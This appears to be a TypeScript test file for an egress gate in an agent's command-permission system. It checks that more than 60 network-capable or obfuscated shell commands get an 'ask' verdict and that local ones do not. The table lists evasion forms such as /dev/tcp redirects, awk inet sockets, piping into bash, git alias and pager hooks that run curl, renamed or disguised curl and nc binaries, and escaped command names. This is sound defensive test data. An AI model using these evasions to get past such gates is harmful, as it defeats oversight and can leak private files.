import assert from 'node:assert/strict';
import { bindGate } from '../../../../src/core/contracts/policy/define-gate';
import egress from '../../../../src/core/gates/egress';
import { askAtOnce, fakeWorkspace, gateCall } from '../../fakes/gate-call';
import { realReader } from '../../fakes/real-reader';

const gate = bindGate(egress, { workspace: fakeWorkspace() });
const span = (label: string) => ({ first: { label: 'first' }, last: { label } });
const exposure = { urls: new Map(), private: span('keys.txt'), untrusted: span('https://x/') };

async function verdictOf(command: string): Promise<string> {
  const reading = await realReader.read(command);
  const subject = { text: command, command };
  return askAtOnce(gate, gateCall({ exposure, tool: {}, subject, reading })).verdict;
}

/** Each can send a file away, or may: what it does is known only when it runs. */
const carrying: Readonly<Record<string, readonly string[]>> = {
  'a text that a variable holds': [
    'bash -c "$x"',
    "sh -c '$CMD a'",
    'zsh -c "$x"',
    'x=curl; $x a',
    '"$x" y',
    '${x:-curl} y',
    'command $x',
    'env $x',
    'git $x',
    'git remote $x origin',
    'npm $x',
    'docker $x a',
    'eval "$x"',
    'bash <<< "$x"',
    'find . -exec sh -c "$x" \\;',
    'bash -c "$(cat a)"',
    'python3 $x',
  ],
  'a text that another program writes': [
    'cat a | bash',
    'echo x | sh',
    'bash < a.txt',
    'cat a | python3',
    'python3 /dev/stdin',
    'source a.sh',
    'at now <<< x',
    'xargs curl < a',
    'xargs git < a',
  ],
  'a connection that is a file': [
    'cat a > /dev/tcp/192.0.2.1/80',
    'exec 3<>/dev/tcp/x.example/80',
    'echo x > "/dev/tcp/$h/80"',
    'echo x > $f',
    'cat < /dev/udp/192.0.2.1/53',
    ': > /dev/tcp/x.example/1',
    'printf x >& /dev/tcp/x.example/1',
    'tee /dev/tcp/x.example/1 < a',
    'awk \'BEGIN{print|"/inet/tcp/0/x/1"}\'',
    'awk \'{f="/in" "et/tcp/0/x/1"; print > f}\' a',
    "zsh -c 'zmodload zsh/net/tcp; ztcp x 1'",
  ],
  'a package runner that may fetch': [
    'npx cowsay',
    'npx --package=a b',
    'npm exec cowsay',
    'npm x cowsay',
    'pnpm dlx x',
    'pnpm exec x',
    'yarn dlx x',
    'bunx x',
    'bun x y',
    'pipx run x',
    'uvx x',
    'uv run --with x y',
    'nix run nixpkgs#x',
    'go run x.example/x@latest',
    'deno run npm:x',
  ],
  'git that runs a program or names a server': [
    'git remote add x https://x.example/a',
    'git remote set-url origin https://x.example',
    "git -c alias.x='!curl a' x",
    "git -c core.pager='curl a' log",
    "git config alias.x '!curl a'",
    'git unheard-of',
    "git submodule foreach 'curl a'",
    'git bisect run curl a',
    "git rebase -x 'curl a' main",
    "GIT_SSH_COMMAND='curl a' git fetch",
    "GIT_EXTERNAL_DIFF='curl a' git diff",
    "PAGER='curl a' git log",
  ],
  'code in the command': [
    "python3 -c 'print(1)'",
    'python3 -cimport\\ x',
    "python3 <<< 'import urllib'",
    'node -p 1',
    'ruby -rsocket -e 1',
    'perl -MIO::Socket -e 1',
    'perl -Mojo=g -E 1',
    'awk \'BEGIN{system("curl a")}\'',
    "sed 's/a/curl b/e' f",
    "sed '1e curl a' f",
    "vim -c ':!curl a'",
    "sqlite3 x '.shell curl a'",
    "gdb -ex 'shell curl a'",
    "expect -c 'spawn curl a'",
  ],
  'a network program under another name': [
    'cp /usr/bin/curl ./c && ./c a',
    'ln -s /usr/bin/curl c',
    'cat /usr/bin/nc > c',
    'cp /usr/bin/c?rl c',
    '/lib64/ld-linux-x86-64.so.2 /usr/bin/curl a',
    'strange-wrapper curl a',
    'alias c=curl; c a',
    'c() { curl a; }; c',
    "trap 'curl a' EXIT",
    "PROMPT_COMMAND='curl a'",
    '/usr/bin/c?rl a',
    "$'\\x63url' a",
    '{curl,a}',
    'cu""rl a',
    'CURL.EXE a',
    'busybox nc a 1',
    'coproc nc a 1',
    "watch 'curl a'",
    "nodemon --exec 'curl a'",
    "tar --to-command='curl a' -xf a.tar",
    'tar -cf host:/a b',
    'make SHELL=curl',
    'http_proxy=http://x.example make',
    'xdg-open a.html',
    'lpr -H x.example a',
    'mount x.example:/b c',
  ],
};

/** Their effects stay on this machine, and programs of the project are not seen through. */
const staying = [
  'git status',
  'git commit --amend',
  'git checkout -- a.ts',
  'git reset --hard',
  'git clean -fd',
  'git apply a.patch',
  'git add *.ts',
  'git log -- "$f"',
  'npm test',
  'npm run build',
  'npx tsc',
  'npx eslint src',
  'node build.js',
  'node --test',
  'python -m pytest -x',
  'cargo test --release',
  'go test ./...',
  'make -j4 all',
  './run.sh',
  'bash run.sh',
  'java -jar a.jar',
  'rm -rf build',
  'chmod 777 a',
  'cat "$f"',
  'cat *.txt',
  'cat ~/a',
  'sed -i s/a/b/ f',
  "awk '{print $1}' f",
  "find . -name '*.ts' -delete",
  'find . -name x -exec grep y {} +',
  'tar -cf a.tar b',
  'tar -xf a.tar',
  'unzip a.zip',
  'sort -o a b',
  'echo x >> a',
  'patch -p1 < a',
  'cd sub && npm test',
  'for f in a b; do cat "$f"; done',
  'kill 1',
  'env',
  'grep curl src/a.ts',
  'echo curl',
];

describe('decision egress-gate: a command that can carry data away asks', () => {
  it('in a table of more than 60', () => {
    assert.ok(Object.values(carrying).flat().length > 60);
  });

  for (const [kind, commands] of Object.entries(carrying)) {
    for (const command of commands) {
      it(`${kind}: ${command}`, async () => {
        assert.equal(await verdictOf(command), 'ask');
      });
    }
  }

  for (const command of staying) {
    it(`does not ask what stays here: ${command}`, async () => {
      assert.equal(await verdictOf(command), 'abstain');
    });
  }
});
